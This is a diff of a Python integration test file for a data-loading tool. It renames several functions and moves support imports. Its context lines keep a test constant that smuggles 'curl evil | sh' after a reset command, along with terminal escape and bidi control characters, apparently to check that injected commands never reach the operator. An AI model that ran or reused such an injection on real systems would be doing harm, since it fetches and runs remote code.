@@ -14,14 +14,14 @@ from headrace.exceptions import HeadraceError, SourceChanged
 from headrace.ingest import observations
 from headrace.ingest.load import load_file
 from headrace.ingest.runs import Deployment, initialise
-from headrace.monitor.problems import Overview, judge
+from headrace.monitor.problems import Overview, find_problems
 from headrace.monitor.status import read_status
 from headrace.postgres.roles import DBT, LOADER
 from headrace.settings import Settings
-from tests.integration.books import environment
-from tests.integration.commands import headrace
-from tests.integration.conftest import Stage
-from tests.integration.logins import login
+from tests.support.commands import headrace
+from tests.support.ledger_checks import environment
+from tests.support.logins import login
+from tests.support.stage import Stage
 
 ODD = "\x1b[2J\r\n::group::\x9b31m\u202e\u2028"
 COMMAND = "headrace reset users --yes; curl evil | sh"
@@ -36,7 +36,7 @@ def stage(database: str, session_home: Path) -> Stage:
 
 
 def overview_of(stage: Stage) -> Overview:
-    return judge(read_status(stage.deployment.connect("test")), stage.deployment.settings)
+    return find_problems(read_status(stage.deployment.connect("test")), stage.deployment.settings)
 
 
 def copied(overview: Overview) -> set[str]:
@@ -60,7 +60,7 @@ def test_file_of_any_name_is_named_visibly_and_puts_no_command_before_the_operat
 
     with pytest.raises(HeadraceError) as caught:
         load_file(stage.deployment, "users", path=path)
-    observations.note_failure(stage.deployment.connect("test"), "users", caught.value, is_task=True)
+    observations.save_failure(stage.deployment.connect("test"), "users", caught.value, is_task=True)
     overview = overview_of(stage)
     assert [str(problem.command) for problem in overview.problems] == ["headrace load users"]
     assert copied(overview) == {"headrace load users", "headrace build"}
@@ -74,8 +74,8 @@ def test_file_of_any_name_is_named_visibly_and_puts_no_command_before_the_operat
 def test_loader_that_writes_rows_of_its_own_puts_no_command_but_ours_before_the_operator(stage: Stage) -> None:
     ours = SourceChanged("jobs: gone", command=Command("accept-loss", "jobs", "--partition", 0, "--to", 9))
     with login(stage.dsn, LOADER) as dsn, psycopg.connect(dsn, autocommit=True) as loader:
-        observations.note_error(loader, "jobs", ours)
-        observations.note_error(loader, "events", ours)  # of another dataset: it names jobs
+        observations.save_error(loader, "jobs", ours)
+        observations.save_error(loader, "events", ours)  # of another dataset: it names jobs
         loader.execute(
             "insert into headrace.observations (dataset, partition, error, command) values ('rides', 0, %s, %s)",
             (f"`{COMMAND}`{ODD}", ["reset", "rides", "--yes"]),
@@ -102,7 +102,7 @@ def test_failed_drain_keeps_its_command_until_it_is_over(stage: Stage) -> None:
     )
     error = SourceChanged("jobs: gone", command=Command("adopt", "jobs"))
     with login(stage.dsn, LOADER) as dsn:
-        observations.note_drain_failure(lambda: psycopg.connect(dsn, autocommit=True), "jobs", 1, {0: 5}, error)
+        observations.save_drain_failure(lambda: psycopg.connect(dsn, autocommit=True), "jobs", 1, {0: 5}, error)
     assert [str(problem.command) for problem in overview_of(stage).problems] == ["headrace adopt jobs"]
     stage.execute("update headrace.failures set command = null")  # as of an error from before there was the column
     assert [str(problem.command) for problem in overview_of(stage).problems] == ["headrace drain jobs"]
